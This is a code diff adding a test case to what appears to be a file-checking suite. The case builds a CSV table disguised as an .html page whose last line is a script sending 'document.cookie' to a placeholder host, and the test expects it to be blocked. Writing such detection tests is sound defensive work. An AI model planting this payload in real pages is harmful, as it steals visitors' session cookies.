@@ -4129,4 +4129,11 @@ def _(path, rng):
     return "\n" * 70_000 + json.dumps({"PC1": _scores(rng, k=1)[:, 0].tolist()})
 
 
+@case("table_named_page.html", Expect.BLOCK, "a CSV named .html, a script on its last line", I)
+def _(path, rng):
+    # the checks read a table; a browser opens a page and runs the script
+    rows = "group,n\ncases,120\ncontrols,180\n" + "# note\n" * 10
+    return rows + "<script>fetch('https://example.org/?' + document.cookie)</script>\n"
+
+
 CASES: list[Case] = [c for c, _ in _WRITERS.values()]
